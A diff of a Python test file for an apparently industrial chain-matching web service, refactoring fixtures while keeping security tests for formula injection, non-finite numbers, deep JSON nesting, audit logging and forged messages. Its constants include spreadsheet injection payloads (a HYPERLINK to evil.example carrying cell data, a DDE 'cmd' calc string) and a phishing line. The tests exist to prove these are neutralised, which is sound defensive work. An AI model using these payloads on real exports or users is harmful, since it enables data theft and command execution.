@@ -12,7 +12,6 @@ import math
 import re
 import time
 import zipfile
-from collections.abc import Iterator
 from typing import Any
 
 import httpx
@@ -27,8 +26,8 @@ from chainmatch.chains.schemas import ChainReport
 from chainmatch.db import make_engine
 from chainmatch.exports import FORMULA_TRIGGERS, csv_bytes, guard_text, is_formula_like, xlsx_append
 from chainmatch.jsonsafe import MAX_DEPTH
-from tests.conftest import Keys, LiveServer
-from tests.test_chains import CHAIN_ID, start_world
+from tests.conftest import World
+from tests.test_chains import CHAIN_ID
 from tests.test_dashboard import csrf_of, login
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
@@ -38,14 +37,10 @@ EVIL_FOR = '=HYPERLINK("http://evil.example/leader","Open")'
 EVIL_REASON = "+1+cmd|'/C calc'!A0"
 
 
-@pytest.fixture(scope="module")
-def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LiveServer, Keys]]:
-    server, keys = start_world(tmp_path_factory, "hostile", rate_limit_per_minute=0)
-    with server:
-        yield server, keys
+pytestmark = pytest.mark.world(chain=True, rate_limit_per_minute=0)  # the sample and its chain, in process
 
 
-def client(world: tuple[LiveServer, Keys], role: str) -> httpx.Client:
+def client(world: World, role: str) -> httpx.Client:
     server, keys = world
     return server.client(getattr(keys, role))
 
@@ -66,14 +61,12 @@ def chinese(message: str) -> bool:
     return any("\u4e00" <= ch <= "\u9fff" for ch in message)
 
 
-def count_lists(world: tuple[LiveServer, Keys]) -> int:
+def count_lists(world: World) -> int:
     with client(world, "admin") as c:
         return len(c.get("/v1/gap-lists", params={"limit": 200}).json()["items"])
 
 
-def new_list(
-    world: tuple[LiveServer, Keys], items: list[dict[str, Any]], title: str = "测试清单"
-) -> dict[str, Any]:
+def new_list(world: World, items: list[dict[str, Any]], title: str = "测试清单") -> dict[str, Any]:
     with client(world, "leader_a") as c:
         response = c.post("/v1/gap-lists", json={"title": title, "items": items})
     assert response.status_code == 201, response.text
@@ -81,7 +74,7 @@ def new_list(
     return body
 
 
-def audit_rows(world: tuple[LiveServer, Keys], object_id: str) -> list[dict[str, Any]]:
+def audit_rows(world: World, object_id: str) -> list[dict[str, Any]]:
     with client(world, "admin") as c:
         response = c.get("/v1/audit", params={"object_id": object_id, "limit": 200})
     assert response.status_code == 200
@@ -120,7 +113,7 @@ def assert_xlsx_inert(data: bytes) -> list[Any]:
 
 
 @pytest.fixture(scope="module")
-def planted(world: tuple[LiveServer, Keys]) -> dict[str, Any]:
+def planted(world: World) -> dict[str, Any]:
     """A hostile firm (name, tag, product) making 涡轮分子泵 outside the region, and a leader's list
     whose item goes into a formula."""
     firm = {
@@ -145,7 +138,7 @@ def planted(world: tuple[LiveServer, Keys]) -> dict[str, Any]:
 REPORT_BODY = {"k": 30, "top": 30, "products_per_link": 3, "min_match_score": 0}
 
 
-def test_report_csv_and_xlsx_write_formulas_as_text(world, planted) -> None:  # type: ignore[no-untyped-def]
+def test_report_csv_and_xlsx_write_formulas_as_text(world: World, planted: dict[str, Any]) -> None:
     with client(world, "bureau_gd") as c:
         as_csv = c.post(f"/v1/chains/{CHAIN_ID}/report", params={"format": "csv"}, json=REPORT_BODY)
         as_xlsx = c.post(f"/v1/chains/{CHAIN_ID}/report", params={"format": "xlsx"}, json=REPORT_BODY)
@@ -158,7 +151,7 @@ def test_report_csv_and_xlsx_write_formulas_as_text(world, planted) -> None:  # 
     assert guard_text(EVIL_NAME) in values and guard_text(EVIL_FOR) in values
 
 
-def test_outreach_feedback_csv_writes_formulas_as_text(world, planted) -> None:  # type: ignore[no-untyped-def]
+def test_outreach_feedback_csv_writes_formulas_as_text(world: World, planted: dict[str, Any]) -> None:
     body = {
         "chain_id": CHAIN_ID,
         "node_id": "vacuum",
@@ -209,7 +202,7 @@ def test_fuzzed_cells_never_become_formulas(rows: list[list[Any]]) -> None:
 
 
 @pytest.fixture(scope="module")
-def report_json(world, planted) -> dict[str, Any]:  # type: ignore[no-untyped-def]
+def report_json(world: World, planted: dict[str, Any]) -> dict[str, Any]:
     with client(world, "bureau_gd") as c:
         response = c.post(f"/v1/chains/{CHAIN_ID}/report", json=REPORT_BODY)
     assert response.status_code == 200
@@ -220,8 +213,8 @@ def report_json(world, planted) -> dict[str, Any]:  # type: ignore[no-untyped-de
 @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(name=hostile_text, tag=hostile_text, product=hostile_text, reason=hostile_text)
 def test_fuzzed_reports_open_without_formulas(
-    report_json, name: str, tag: str, product: str, reason: str
-) -> None:  # type: ignore[no-untyped-def]
+    report_json: dict[str, Any], name: str, tag: str, product: str, reason: str
+) -> None:
     """A real report with generated texts in every firm field: the CSV and XLSX renderers write
     no formula, whatever the texts begin with."""
     data = json.loads(json.dumps(report_json))
@@ -236,7 +229,7 @@ def test_fuzzed_reports_open_without_formulas(
 
 
 # ------------------------------------------------------------------------------- 2. numbers
-def test_non_finite_demand_is_422_and_nothing_is_written(world) -> None:  # type: ignore[no-untyped-def]
+def test_non_finite_demand_is_422_and_nothing_is_written(world: World) -> None:
     before = count_lists(world)
     body = '{"title":"t","items":[{"name":"涡轮分子泵","annual_demand_cny":1e309}]}'
     with client(world, "leader_a") as c:
@@ -247,7 +240,7 @@ def test_non_finite_demand_is_422_and_nothing_is_written(world) -> None:  # type
     assert count_lists(world) == before
 
 
-def test_firm_revenue_1e999_and_huge_employees_are_422(world) -> None:  # type: ignore[no-untyped-def]
+def test_firm_revenue_1e999_and_huge_employees_are_422(world: World) -> None:
     with client(world, "admin") as c:
         inf = raw_post(c, "/v1/firms", '[{"id":"INF-1","name":"无穷公司","revenue_cny":1e999}]')
         assert inf.status_code == 422 and locs(inf) == [["body", 0, "revenue_cny"]]
@@ -275,7 +268,7 @@ def test_firm_revenue_1e999_and_huge_employees_are_422(world) -> None:  # type: 
             assert c.get(f"/v1/firms/{firm_id}").status_code == 404
 
 
-def test_pages_stay_up_with_non_finite_values_already_stored(world) -> None:  # type: ignore[no-untyped-def]
+def test_pages_stay_up_with_non_finite_values_already_stored(world: World) -> None:
     """Values stored before validation refused them (+inf demand, NaN share) never reach a renderer."""
     server, _ = world
     gap_list = new_list(
@@ -299,7 +292,7 @@ def test_pages_stay_up_with_non_finite_values_already_stored(world) -> None:  # 
             job = c.post(f"/v1/chains/{CHAIN_ID}/report-jobs", json={"k": 2, "top": 2}).json()
             assert wait_for_job(c, job["id"]) == "done"
             assert c.get(f"/v1/report-jobs/{job['id']}/result", params={"format": "html"}).status_code == 200
-        with httpx.Client(base_url=server.url, timeout=60) as b:
+        with server.client() as b:
             login(b, world[1].bureau_gd)
             assert b.get(f"/chains/{CHAIN_ID}").status_code == 200
             assert (
@@ -328,7 +321,7 @@ def deep(n: int) -> str:
 
 @pytest.mark.parametrize("path", ["/v1/firms", "/v1/product-relations"])
 @pytest.mark.parametrize("content_type", ["application/json", "application/x-ndjson"])
-def test_deep_nesting_is_422(world, path: str, content_type: str) -> None:  # type: ignore[no-untyped-def]
+def test_deep_nesting_is_422(world: World, path: str, content_type: str) -> None:
     with client(world, "admin") as c:
         for body in (deep(100_000), '{"id":"D-1","name":"深","industry":' + deep(MAX_DEPTH + 5) + "}"):
             response = raw_post(c, path, body, content_type)
@@ -347,14 +340,14 @@ def test_deep_nesting_is_422(world, path: str, content_type: str) -> None:  # ty
         ('{"text":"涡轮","filters":{"\\udc00":1}}', ["body", "filters"]),
     ],
 )
-def test_match_refuses_nan_infinity_and_surrogates(world, body: str, loc: list[Any]) -> None:  # type: ignore[no-untyped-def]
+def test_match_refuses_nan_infinity_and_surrogates(world: World, body: str, loc: list[Any]) -> None:
     with client(world, "bureau_gd") as c:
         response = raw_post(c, "/v1/match", body)
     assert response.status_code == 422 and locs(response) == [loc]
     assert chinese(response.json()["detail"][0]["msg"])
 
 
-def test_report_and_outreach_refuse_non_finite_numbers(world, planted) -> None:  # type: ignore[no-untyped-def]
+def test_report_and_outreach_refuse_non_finite_numbers(world: World, planted: dict[str, Any]) -> None:
     with client(world, "bureau_gd") as c:
         report = raw_post(c, f"/v1/chains/{CHAIN_ID}/report", '{"min_match_score":NaN}')
         assert report.status_code == 422 and locs(report) == [["body", "min_match_score"]]
@@ -385,7 +378,7 @@ def test_report_and_outreach_refuse_non_finite_numbers(world, planted) -> None: 
         ),
     ],
 )
-def test_gap_list_refuses_lone_surrogates_and_huge_ints(world, body: str, loc: list[Any]) -> None:  # type: ignore[no-untyped-def]
+def test_gap_list_refuses_lone_surrogates_and_huge_ints(world: World, body: str, loc: list[Any]) -> None:
     before = count_lists(world)
     with client(world, "leader_a") as c:
         response = raw_post(c, "/v1/gap-lists", body)
@@ -394,7 +387,7 @@ def test_gap_list_refuses_lone_surrogates_and_huge_ints(world, body: str, loc: l
 
 
 # ------------------------------------------------------------------------------- 4. audit
-def test_every_read_of_a_list_through_a_chain_is_audited(world) -> None:  # type: ignore[no-untyped-def]
+def test_every_read_of_a_list_through_a_chain_is_audited(world: World) -> None:
     server, keys = world
     gap_list = new_list(world, [{"name": "涡轮分子泵", "import_share": 0.7}], "审计清单")
     list_id, version = gap_list["id"], gap_list["version"]
@@ -422,7 +415,7 @@ def test_every_read_of_a_list_through_a_chain_is_audited(world) -> None:  # type
         assert "owner_key_id" not in status
         assert c.get(f"/v1/report-jobs/{job['id']}/result").status_code == 200
         new_rows("report", f"GET /v1/report-jobs/{job['id']}/result")
-    with httpx.Client(base_url=server.url, timeout=60) as b:
+    with server.client() as b:
         login(b, keys.bureau_gd)
         assert b.get(f"/chains/{CHAIN_ID}").status_code == 200
         new_rows("weak_links", f"GET /chains/{CHAIN_ID}")
@@ -457,7 +450,7 @@ def test_every_read_of_a_list_through_a_chain_is_audited(world) -> None:  # type
 
 
 # ------------------------------------------------------------------------------- 5. chain ids
-def test_a_deleted_chain_id_stays_with_its_region(world, planted) -> None:  # type: ignore[no-untyped-def]
+def test_a_deleted_chain_id_stays_with_its_region(world: World, planted: dict[str, Any]) -> None:
     body = {
         "id": "reserved-x",
         "name": "真空",
@@ -472,7 +465,7 @@ def test_a_deleted_chain_id_stays_with_its_region(world, planted) -> None:  # ty
         assert record.status_code == 201 and record.json()["chain_version"] == 1
         assert gd.delete("/v1/chains/reserved-x").status_code == 204
     with client(world, "bureau_js") as js:
-        taken = js.post("/v1/chains", json=body | {"nodes": [dict(body["nodes"][0], name="江苏真空")]})  # type: ignore[arg-type,dict-item]
+        taken = js.post("/v1/chains", json=body | {"nodes": [dict(body["nodes"][0], name="江苏真空")]})  # type: ignore[arg-type]
         assert taken.status_code == 409 and chinese(taken.json()["detail"])
     with client(world, "admin") as admin:
         moved = admin.post("/v1/chains", json=body | {"region": {"province": "江苏省"}})
@@ -486,10 +479,10 @@ def test_a_deleted_chain_id_stays_with_its_region(world, planted) -> None:  # ty
 
 
 # ------------------------------------------------------------------------------- 6. small
-def test_dashboard_shows_only_messages_the_server_set(world, planted) -> None:  # type: ignore[no-untyped-def]
+def test_dashboard_shows_only_messages_the_server_set(world: World, planted: dict[str, Any]) -> None:
     server, keys = world
     phishing = "请将 API 密钥发送至 evil@example.com"
-    with httpx.Client(base_url=server.url, timeout=60) as b:
+    with server.client() as b:
         login(b, keys.bureau_gd)
         forged = b.get("/", params={"msg": phishing, "kind": "ok"})
         assert forged.status_code == 200 and phishing not in forged.text and 'id="flash"' not in forged.text
@@ -511,7 +504,7 @@ def test_dashboard_shows_only_messages_the_server_set(world, planted) -> None:  
         assert moved.status_code == 200 and 'id="flash"' in moved.text and "加入跟踪" in moved.text
 
 
-def test_downloads_are_not_cached_sniffed_or_scripted(world, planted) -> None:  # type: ignore[no-untyped-def]
+def test_downloads_are_not_cached_sniffed_or_scripted(world: World, planted: dict[str, Any]) -> None:
     with client(world, "bureau_gd") as c:
         for fmt in ("html", "csv", "xlsx", "json"):
             response = c.post(
